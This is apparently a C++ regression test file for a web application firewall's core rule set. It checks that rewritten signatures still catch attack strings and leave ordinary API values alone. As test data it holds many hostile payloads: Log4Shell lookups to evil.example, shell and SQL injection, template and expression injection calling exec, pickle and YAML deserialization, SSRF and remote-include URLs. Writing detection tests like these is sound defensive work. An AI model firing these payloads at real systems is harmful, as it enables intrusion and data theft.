// Regressions of the core rule set itself (libguard/rules/core.json) at paranoia level 1: requests that real
// APIs send all day must not match, and when a pattern is narrowed or rewritten (for false positives or for
// scan cost) every form it caught is still caught.
#include <catch2/catch.hpp>

#include <algorithm>
#include <string>
#include <utility>
#include <vector>

#include "signatures/matcher.h"

using namespace guard::signatures;
using guard::request::FieldList;
using guard::request::Target;

namespace {

const Matcher& CoreMatcher() {
  static const std::unique_ptr<Matcher> m = [] {
    auto rules = ParseRules(CoreRulesJson());
    REQUIRE(rules.ok());
    auto compiled = Matcher::Compile(*rules, {});
    REQUIRE(compiled.ok());
    return std::move(*compiled);
  }();
  return *m;
}

std::vector<uint32_t> Matches(Target t, std::string_view name, std::string_view value) {
  FieldList fl;
  fl.Add(t, name, value);
  ScanState st;
  REQUIRE(CoreMatcher().Scan(fl, &st));
  std::vector<uint32_t> ids;
  for (const Match& x : st.matches()) ids.push_back(CoreMatcher().rules()[x.rule_index].id);
  return ids;
}

// Ids of the core rules matching one query argument with this value.
std::vector<uint32_t> Matching(const std::string& value) { return Matches(Target::kArg, "q", value); }

bool Has(const std::vector<uint32_t>& ids, uint32_t id) { return std::find(ids.begin(), ids.end(), id) != ids.end(); }

// Each (rule id, value): the rule matches the value as a query argument.
void CheckCaught(const std::vector<std::pair<uint32_t, std::string>>& cases) {
  for (const auto& [id, v] : cases) {
    INFO(id << " " << v);
    CHECK(Has(Matching(v), id));
  }
}

// None of the rules matches any of the values.
void CheckNotMatched(std::initializer_list<const char*> values, std::initializer_list<uint32_t> ids) {
  for (const char* v : values) {
    const auto matched = Matching(v);
    for (uint32_t id : ids) {
      INFO(id << " " << v);
      CHECK(!Has(matched, id));
    }
  }
}

}  // namespace

TEST_CASE("a parameter or value that is just `id` (or a list of columns) is not a command") {
  // GET /users?id=42, ?sort=id, ?fields=id,name: rule 3005 once read a bare `id` as the Unix command.
  CHECK(Matches(Target::kArgName, "id", "id").empty());
  CHECK(Matches(Target::kArg, "id", "42").empty());
  CHECK(Matches(Target::kArg, "sort", "id").empty());
  CHECK(Matches(Target::kArg, "order_by", "id desc").empty());
  CHECK(Matches(Target::kArg, "fields", "id,name,email").empty());
  CHECK(Matches(Target::kBodyArg, "q", "what is my user id").empty());
}

TEST_CASE("`id` after a command separator or in a substitution is still a command") {
  for (const char* v : {";id", "1|id", "a && id", "$(id)", "`id`", "x; id;"}) {
    INFO(v);
    CHECK_FALSE(Matches(Target::kArg, "cmd", v).empty());
  }
}

// 8506's `${` + PHP call was `\$\{\s*@?\s*(?:print|...)\s*\(`: the optional run after `${` made Hyperscan
// check every `${` (a body of `${${::-` cost 8 ns/byte for this pattern alone). It is now split into
// alternatives on the gap (none, whitespace first, `@` then whitespace), the same language: every shape of
// the gap must still match.
TEST_CASE("8506: every gap between ${ and the PHP call is still caught") {
  CheckCaught({{8506, "${print(1)}"}, {8506, "${@print(1)}"}, {8506, "${ print(1)}"}, {8506, "${\t@ print (1)}"},
               {8506, "${@  eval  ('x')}"}, {8506, "${ @system(id)}"}, {8506, "${  @  EXEC(id)}"},
               {8506, "${PhpInfo()}"}, {8506, "a ${md5 (1)} b"}, {8506, "${\n\nassert(1)}"}});
  CheckNotMatched({"${printer(1)}", "${x print(1)}", "${@@print(1)}", "$ {print(1)}", "${print}"}, {8506});
}

// The Log4Shell forms the `${` rules exist for (jndi category: 6501, 6502).
TEST_CASE("Log4Shell lookups and their obfuscations are caught") {
  for (const char* v : {"${jndi:ldap://evil.example/a}", "${${::-j}${::-n}di:ldap://evil.example/a}",
                        "${${lower:j}ndi:ldap://evil.example/a}", "${env:AWS_SECRET_ACCESS_KEY}${jndi:dns://x}",
                        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
                        "${jndi : rmi : / / evil.example/a}"}) {
    INFO(v);
    const auto ids = Matching(v);
    CHECK((Has(ids, 6501) || Has(ids, 6502)));
  }
}

// Two patterns rewritten for scan cost (bench_rule_cost @FILE --patterns, docs/benchmarks.md), with the same
// matches: 8506's `\b\w+['"]` became `\w['"]` (a run of word characters always starts at a word boundary),
// 3006's `\w\$(?:\(\)|\{\w*\}|@|\*|\d)\w` became one branch per literal (`$()`, `${`, `$@`/`$*`/`$N`).
TEST_CASE("8506 string-built calls and 3006 empty expansions: every form still caught") {
  CheckCaught({{8506, "sys'.'tem('id')"}, {8506, "x\"ev\" . \"al($_GET[c])"}, {8506, "a'b'.'c("}, {8506, "1\". 'x2 ("},
               {3006, "c$()at /etc/passwd"}, {3006, "w${x}get"}, {3006, "w${}get"}, {3006, "c$@at"}, {3006, "c$*at"},
               {3006, "c$1at"}});
  CheckNotMatched({"'.'x'(", "x' . y'(", "it's.'s'"}, {8506});  // no word before the quote, no quote after the dot
  CheckNotMatched({"$()at", "price $5", "a$ b", "a${x y}b", "a$(x)b"}, {3006});
}

// Lookup rules rewritten for linear cost on bodies full of `${` (bench_linearity, "JNDI-like lookups" and
// "unresolved lookups"): what they caught before is still caught. 6501 now compresses whitespace first, so a
// run of spaces or tabs inside `${ jndi :` is one space for its ` ?`; 6502 no longer allows spaces inside
// `}ndi:` (a lookup split there does not resolve to `jndi`) nor schemes like `rmis`; 8504 allows up to 64
// spaces around `T(`, 6003 up to 64 after `${`.
TEST_CASE("lookup and expression rules rewritten for cost: payload forms still caught") {
  const std::vector<std::pair<uint32_t, std::string>> cases = {
      {6501, "${jndi:ldap://evil.example/a}"},
      {6501, "${ jndi :ldap://evil.example/a}"},
      {6501, "${\t\tjndi:x}"},
      {6501, "${::-j}"},
      {6501, "${${lower:j}ndi:x}"},
      {6501, "${  ${  lower:j}"},
      {6501, "${base64:JHtqbmRp}"},
      {6501, "${x:-j}${y:-n}"},
      {6501, "${env:NaN:-j}ndi${env:NaN:-:}"},
      {6501, "${date:'j'}${date:'n'}"},
      {6501, "${env:x(!#%{:-j}${env:y:-n}"},  // any key before a default value
      {6502, "${${::-j}${::-n}di:ldap://evil.example/a}"},
      {6502, "${jndi:rmi://evil.example/a}"},
      {6502, "${jndi:dns://evil.example}"},
      {6502, "${jndi:https://evil.example}"},
      {6502, "${x}ndi:"},
      {6502, "${upper:j}${upper:n}di:"},
      {6502, "${x}i:"},
      {8504, "${T(java.lang.Runtime).getRuntime().exec('id')}"},
      {8504, "${T (java.lang.Runtime)}"},
      {8504, "${x T(  java.lang.Runtime)}"},
      {8504, "${''.getClass().forName('x')}"},
      {6003, "${class.module.classLoader}"},
      {6003, "${  class.classLoader}"},
      {6003, "$class.inspect('x')"},
  };
  CheckCaught(cases);
  // Plain templates, and a negative number or a smiley after a colon (not a `:-` default value).
  CheckNotMatched({"price: ${amount}", "${HOME}/bin", "see ${ref} in", "${a}-${b}", "{\"offset\":-1}", "ratio 3:-1",
                   "{\"t\":-5},{\"u\":-6}", "temp {min:-5} max: 3", ":-) ok"},
                  {6501, 6502, 8504});
}

// Rewritten for the cost of the joined scan, where a value-start anchor holds at every separator byte: an
// unbounded whitespace run right after it woke an engine at every field. 7501's `*)(` and 3002's backtick
// substitution at the start of a value now allow up to 32 leading whitespace characters; after `=;&|(` any
// number. What they caught before within those bounds is still caught.
TEST_CASE("value-start LDAP and backtick rules rewritten for cost: payload forms still caught") {
  const std::vector<std::pair<uint32_t, std::string>> cases = {
      {7501, "*)(description=x"},
      {7501, "   *)(description=x"},
      {7501, "\t*) (description=x"},
      {7501, std::string(32, ' ') + "*)(x"},
      {7501, std::string(100, ' ') + "*)(x"},
      {7501, "a\n*)(x"},  // at the start of a line
      {3002, "`id`"},
      {3002, "` cat /etc/passwd`"},
      {3002, "  `whoami`"},
      {3002, std::string(32, ' ') + "`id`"},
      {3002, "x=`uname -a`"},
      {3002, "a;   `id`"},
      {3002, "(`\"whoami`)"},
      {3002, "x\n`id`"},
  };
  CheckCaught(cases);
  CheckNotMatched({"(char *)(buf)", "run `ls` to list", "see (note*)(a)"}, {7501, 3002});  // not at the value start
}

// 3005 reads values after cmdLine, which deletes quotes and the space before a '/': `c'a't /e'tc'/passwd`
// becomes `cat/etc/passwd`. Its pattern required whitespace between the command and the path, so after
// that transform it could not match at all; it now allows none.
TEST_CASE("3005: a command and a system path, however quoted or spaced") {
  CheckCaught({{3005, "c'a't /e'tc'/pa'ss'wd"},
               {3005, ";c\"a\"t /etc/pass\"wd\""},
               {3005, "cat /etc/passwd"},
               {3005, "x|head\t/etc/hosts"},
               {3005, "`tail /var/log/x`"}});
  CheckNotMatched({"concat/etc/x", "the cat /sat", "category /etc"}, {3005});
}

// The shell-command rules let quoting characters stand before the command name (`;"cat`, `$(\\id)`), not
// word characters around them: `;x"ycat` runs no `cat`, and the \w* around the quotes made these four
// patterns the largest part of the joined database (docs/benchmarks.md, "Inspect latency").
TEST_CASE("3001/3002/3007: quoting before the command name is still caught") {
  CheckCaught({{3001, ";\"cat /etc/passwd"},
               {3001, "x;\\cat /etc/passwd"},
               {3001, "a && ^whoami"},
               {3001, "a | ''id"},
               {3001, "$(''uname -a)"},
               {3001, "x;cat\t/etc/passwd"},
               {3001, "x;netstat -an"},
               {3002, "$(\"whoami)"},
               {3002, "$( \\id)"},
               {3002, "x=`\"uname -a`"},
               {3002, "  `''id`"}});
  CheckNotMatched({"a; concatenate", "x; category -1", "tom & jerry", "a|b"}, {3001});
  // 3007 reads the path, the query, cookies and custom headers, not body values.
  CHECK(Has(Matches(Target::kArg, "q", "x`\"id`"), 3007));
  CHECK(Has(Matches(Target::kArg, "q", "a\n\\whoami\n"), 3007));
}

// 9005's backup-file suffixes and `~` share one end-anchored pattern.
TEST_CASE("9005: backup and editor files at the end of the path") {
  for (const char* path : {"/index.php~", "/db.sql", "/site.tar.bak", "/app/config.php.swp", "/x.sqlite3"}) {
    INFO(path);
    CHECK(Has(Matches(Target::kPath, "", path), 9005));
  }
  for (const char* path : {"/~user/index.html", "/a~b", "/sql/reports", "/backup/list"}) {
    INFO(path);
    CHECK(!Has(Matches(Target::kPath, "", path), 9005));
  }
}

// 4003 reads values after normalizePath, which turns every \ into / and collapses repeated slashes: its
// pattern spells the separator as one /, and the Windows and doubled forms are caught through the transform.
TEST_CASE("4003: sensitive files behind any slash form") {
  CheckCaught({{4003, "../../etc/passwd"},
               {4003, "..\\..\\windows\\win.ini"},
               {4003, "/etc//passwd"},
               {4003, "x=\\etc\\shadow"},
               {4003, "/proc/self/environ"},
               {4003, "C:\\Users\\me\\.ssh\\id_rsa"},
               {4003, "/var//log/nginx/access.log"}});
  CheckNotMatched({"etcetera/passwd", "/api/webconfig", "/proc/selfie", "hosts/etc"}, {4003});
}

// urlDecodeUni turns '+' into a space (as ModSecurity's does, so that form-style payloads pasted into JSON,
// `1'+union+select`, still read as SQL). The field reaching it is already decoded once, so a '+' the client
// sent as %2B is a space by then: the rules that need a literal '+' (concatenation, arithmetic probes)
// accept the space too. The values below are what the rules see after the parser's own decoding.
TEST_CASE("'+' sent as %2B: concatenation and arithmetic probes still caught") {
  CheckCaught({{8506, "require('child_'+'process').exec('id')"},
               {8506, "require(\"child_\" + \"process\")"},
               {6003, "{{''['__cla'+'ss__']['__mr'+'o__']}}"},
               {6002, "{{7+7}}"},
               {6002, "${7+7}"},
               {6002, "#{7+7}"},
               {6002, "<%= 7+7 %>"},
               {6002, "{{7*'7'}}"}});
  CheckNotMatched({"require('express')", "require('a') + b", "{{ user.name }} {{ 7 }}", "#{name} #{7}", "x + y = 7 7"},
                  {8506, 6002, 6003});
}

TEST_CASE("1001: tautologies on concatenated strings and bare x'='x") {
  CheckCaught({{1001, "x' or 'a'+'b'='ab"},
               {1001, "x' or 'a'||'b'='ab"},
               {1001, "x' or 'a' 'b'='ab"},
               {1001, "x'='x"},
               {1001, "a' = 'a"},
               {1005, "1 procedure analyse()"}});
  CheckNotMatched({"it's = 'fine'", "O'Brien and 'Smith' or 'Jones'", "don't = won't", "rock 'n' roll",
                   "SELECT * FROM t WHERE a = 'x'"},
                  {1001});
}

// False positives found on a benign corpus written blind (docs/benchmarks.md, "Blind corpora"): each rule
// narrowed to what makes the value an attack, with the attack forms it caught still caught.
TEST_CASE("3001: an English word after a lone '&' is prose, a command after any separator is not") {
  CheckNotMatched({"shop & more", "Find & replace", "Name & ID", "HTML & PHP", "Head & Shoulders", "Sort & filter",
                   "Set & forget", "Books & more info."},
                  {3001});
  CheckCaught({{3001, "127.0.0.1 & whoami"}, {3001, "x & ping -n 10 127.0.0.1"}, {3001, "x & type c:\\boot.ini"},
               {3001, "a && id"}, {3001, "a; id"}, {3001, "a | more"}, {3001, "$(id)"}, {3001, "x &dir /s"},
               {3001, "x & cat /etc/passwd"}, {3001, "x & sleep 5;"}, {3001, "x & dir c:\\windows"}});
}

TEST_CASE("1008/1001: quote then SQL that reads as SQL, not prose") {
  CheckNotMatched({"Fits 3/4\" union fittings", "Select the 'union' option", "Click \"Order by date\" first",
                   "'Select the file' button", "(x < 5) and (y > 3)"},
                  {1008, 1001});
  CheckCaught({{1008, "' union select 1,2"}, {1008, "') union all select null"}, {1008, "' order by 3--"},
               {1008, "' group by a,b having 1=1--"}, {1008, "'; drop table users"}, {1008, "'select @@version"},
               {1008, "' waitfor delay '0:0:5'"}, {1001, "1) or (1=1"}, {1001, "') or ('a'='a"}});
}

TEST_CASE("template, URL, path and operator rules: everyday values left alone") {
  CheckNotMatched({"{% for item in items %}<li>{{ item.name|e }}</li>{% endfor %}",
                   "{% if order.discount > 0 %}saved{% endif %}"},
                  {6001});
  CheckCaught({{6001, "{% include '/etc/passwd' %}"}, {6001, "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"},
               {6001, "{{ config.items() }}"}});
  CheckNotMatched({"https://n8n.internal.example.com/webhook/1"}, {5002});
  CheckCaught({{5002, "http://db.internal/admin"}, {5002, "http://printer.local:631/"}});
  CheckNotMatched({"file:///home/dev/project/src/main.py"}, {4004, 4003});
  CheckCaught({{4004, "file:///etc/passwd"}, {4004, "file:///c:/windows/win.ini"}, {4004, "file://203.0.113.7/share/x.php"},
               {4004, "php://filter/resource=index.php"}});
  CheckNotMatched({"<property name=\"LOG_DIR\" value=\"/var/log/app\"/>"}, {4003});
  CheckCaught({{4003, "../../var/log/apache2/access.log"}, {4003, "/var/log/auth.log"}});
  CheckNotMatched({"JavaScript: The Good Parts", "javascript: a beginner's guide"}, {2003});
  CheckCaught({{2003, "javascript:alert(1)"}, {2003, "javascript: alert(1)"}, {2003, "javascript://%0aalert(1)"},
               {2003, "vbscript:msgbox(1)"}, {2003, "javascript:window.location='x'"}});
  CheckNotMatched({"mutation M($to: ID!, $text: String!, $type: Kind) { m }"}, {7001});
  CheckCaught({{7001, "{\"$ne\": null}"}, {7001, "{$gt: \"\"}"}, {7001, "{$where: function() { return true }}"},
               {7001, "{ '$regex': '^a' }"}});
}

TEST_CASE("9005: a .sql dump near the web root, not deep in a repository") {
  auto path = [](const char* p) { return Matches(Target::kPath, "", p); };
  CHECK(Has(path("/backup.sql"), 9005));
  CHECK(Has(path("/db/dump.sql.gz"), 9005));
  CHECK(!Has(path("/repos/acme/shop/contents/docs/queries.sql"), 9005));
  CHECK(Has(path("/index.php.bak"), 9005));
}

TEST_CASE("8004/8005: line breaks before a header in body values") {
  auto body = [](const char* v) { return Matches(Target::kBodyArg, "v", v); };
  CHECK(Has(body("en\r\nSet-Cookie: admin=1"), 8004));
  CHECK(Has(body("Hello\r\nBcc: everyone@example.com"), 8004));
  CHECK(Has(body("foo%0d%0aSet-Cookie:%20a=b"), 8005));
  CHECK(Has(body("/home%0aLocation:%20http://evil.example"), 8005));
  CHECK(Has(body("x%E5%98%8A%E5%98%8DSet-Cookie:a=b"), 8005));
  for (const char* ok : {"Meeting notes\r\nLocation: Room 4", "Dear team,\nCc: the board", "100%0 done"}) {
    INFO(ok);
    CHECK(!Has(body(ok), 8004));
    CHECK(!Has(body(ok), 8005));
  }
}

// Attack forms found missing by an attack corpus written blind (docs/benchmarks.md, "Blind corpora").
TEST_CASE("blind-corpus gaps: wrappers, rebinding names, template callables, argument injection") {
  CheckCaught({{4004, "jar:http://attacker.example/evil.jar!/Exploit.class"},
               {5002, "http://localtest.me:8000/internal/config"},
               {5002, "http://\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.\xe2\x93\xaa.\xe2\x93\xaa.\xe2\x91\xa0/"},  // ①②⑦.⓪.⓪.①
               {6003, "{{['id']|filter('system')}}"},
               {6003, "{{()[\"\\x5f\\x5fclass\\x5f\\x5f\"]}}"},
               {7002, "'; db.dropDatabase(); var a='"},
               {3003, "--upload-pack=touch /tmp/pwned"},
               {3003, "-oProxyCommand=id x"},
               {8001, "guest\r\n[INFO] admin logged in"},
               {8003, "/docs/\xe2\x80\xa8Set-Cookie:ls=1"},
               {8501, "eval(chr(115).chr(121))"},
               {8507, "hook: !!python/object/apply:os.system [\"id\"]"}});
  CheckNotMatched({"https://localtest.mexico.example/", "eval is evil", "--upload-packs are fine", "[INFO] started"},
                  {5002, 8501, 3003, 8001});
  auto header = [](const char* name, const char* v) { return Matches(Target::kHeader, name, v); };
  CHECK(Has(header("content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"), 8508));
  CHECK(!Has(header("content-type", "multipart/form-data; boundary=x"), 8508));
  CHECK(Has(header("user-agent", "Mozilla/5.0 (compatible; Jorgee)"), 9001));
  auto path = [](const char* p) { return Matches(Target::kPath, "", p); };
  for (const char* p : {"/actuator/env", "/server-status", "/phpmyadmin/index.php", "/HNAP1/", "/solr/admin/cores"}) {
    INFO(p);
    CHECK(Has(path(p), 9006));
  }
  for (const char* p : {"/actuator/health", "/api/v1/servers/status", "/wp-login.php"}) {
    INFO(p);
    CHECK(!Has(path(p), 9006));
  }
}

TEST_CASE("4504: UNC includes name a host or an address") {
  CheckCaught({{4504, "\\\\evil.example\\share\\x.php"}, {4504, "\\\\203.0.113.7\\share\\x"}});
  CheckNotMatched({"\\\\fileserver\\finance\\reports", "C:\\share\\x.php"}, {4504});
}

TEST_CASE("4503: a UNC path in an include-like parameter") {
  auto arg = [](const char* name, const char* v) { return Matches(Target::kArg, name, v); };
  CHECK(Has(arg("page", "\\\\evil.example\\share"), 4503));
  CHECK(!Has(arg("page", "docs\\intro"), 4503));
}

TEST_CASE("8503: pickled Python calling a command, raw or base64") {
  auto cookie = [](const char* v) { return Matches(Target::kCookie, "session", v); };
  CHECK(Has(cookie("Y29zCnN5c3RlbQooUydpZCcKdFIu"), 8503));           // base64 of cos\nsystem\n(S'id'...
  CHECK(Has(cookie("cposix\nsystem\n(S'id'\ntR."), 8503));
  CHECK(!Has(cookie("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig"), 8503));  // a JWT
  CHECK(!Has(cookie("cos\ncosine values"), 8503));
}

TEST_CASE("2004 is for tags and attributes that act; content tags with a link or image are 2008 (severity 3)") {
  CheckCaught({{2004, "<form action=https://evil.example/login><input name=pw>"},
               {2004, "<base href=//evil.example/>"},
               {2004, "<meta http-equiv=refresh content=\"0;url=//evil.example\">"},
               {2004, "<button formaction=//evil.example>go</button>"},
               {2004, "<img dynsrc=\"x\">"},
               {2004, "<table background=\"//evil.example/x.png\">"},
               {2008, "<a href=\"//evil.example\">Click</a>"},
               {2008, "<img src='//evil.example/?"}});
  // What a CMS or a rich-text editor posts: a link, an image.
  CheckNotMatched({"<p>See the <a href=\"https://docs.example.com/cli\" target=\"_blank\">CLI reference</a>.</p>",
                   "<img src=\"https://cdn.example.com/hero@2x.jpg\" alt=\"Beach chairs\" width=\"1200\">"},
                  {2004});
  CHECK(Has(Matching("<a href=\"https://docs.example.com/cli\">docs</a>"), 2008));
}

TEST_CASE("a rule naming a field reads it nested in JSON or a form array, and in a cookie (4503)") {
  const std::string url = "http://attacker.example/payload.php";
  CHECK(Has(Matches(Target::kBodyArg, "config.include", url), 4503));
  CHECK(Has(Matches(Target::kBodyArg, "data.0.attributes.lang", url), 4503));
  CHECK(Has(Matches(Target::kBodyArg, "user[lang]", url), 4503));
  CHECK(Has(Matches(Target::kCookie, "lang", url), 4503));
  CHECK(Has(Matches(Target::kArg, "Page", url), 4503));
  // Only the last segment, and all of it.
  CHECK(!Has(Matches(Target::kBodyArg, "include.url", url), 4503));
  CHECK(!Has(Matches(Target::kBodyArg, "config.includes", url), 4503));
  CHECK(!Has(Matches(Target::kBodyArg, "language", url), 4503));
  CHECK(guard::signatures::LeafName("a.b.lang") == "lang");
  CHECK(guard::signatures::LeafName("user[lang]") == "lang");
  CHECK(guard::signatures::LeafName("lang").empty());
  CHECK(guard::signatures::LeafName("a[").empty());
}

TEST_CASE("payloads moved out of the query: Node.js injection in XML and custom headers, SSRF in a path") {
  CHECK(Has(Matches(Target::kXml, "filter", "require('child_process').exec('id')"), 8505));
  CHECK(Has(Matches(Target::kHeader, "X-Api-Filter", "{\"__proto__\":{\"isAdmin\":true}}"), 8505));
  CHECK(!Has(Matches(Target::kHeader, "Accept", "{\"__proto__\":{\"isAdmin\":true}}"), 8505));  // standard: not read
  // Image proxies and resizers take the URL in the path (/unsafe/300x200/http://...).
  CHECK(Has(Matches(Target::kPath, "", "/unsafe/300x200/http://127.0.0.1:8080/admin"), 5002));
  CHECK(Has(Matches(Target::kPath, "", "/fetch/gopher://10.0.0.5:6379/_INFO"), 5003));
  CHECK(!Has(Matches(Target::kPath, "", "/api/v1/hosts/10.0.0.5/status"), 5002));  // an address, no URL
}

TEST_CASE("5003 leaves the LDAP and SFTP URLs of settings forms; internal targets and jndi: stay caught") {
  // SSO and backup settings take such URLs: ldap:// is an SSRF signal only towards an internal address (5002).
  CheckNotMatched({"ldaps://ldap.corp.example.com:636", "ldap://ldap.example.com:389 config",
                   "sftp://backup.example.com/nightly"},
                  {5003, 5002});
  CheckCaught({{5003, "gopher://203.0.113.7:70/_x"},
               {5003, "dict://203.0.113.7:11211/stat"},
               {5002, "ldap://127.0.0.1:389/dc=corp"},
               {5002, "ldap://10.0.0.5/o=x"},
               // A lookup whose brace a second JSON decoding would restore; jndi: and a scheme are enough.
               {6502, "$\\u007bjndi:ldap://evil.example/a}"},
               {6502, "jndi:rmi://203.0.113.7:1099/x"}});
}

TEST_CASE("1009/1015: boolean-blind probes with a parenthesised CASE WHEN or subquery (sqlmap's forms)") {
  CheckCaught({{1009, "1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)"},
               {1009, "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"},
               {1015, "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"},
               {1009, "x' OR (SELECT 1)='1"},
               {1009, "1 AND (IF(1=1,SLEEP(5),0))"}});
  CheckNotMatched({"pick a size and (select a colour) then pay", "restart and (if needed) clear the cache",
                   "in case when you travel", "bread and (case of) butter"},
                  {1009, 1015});
}
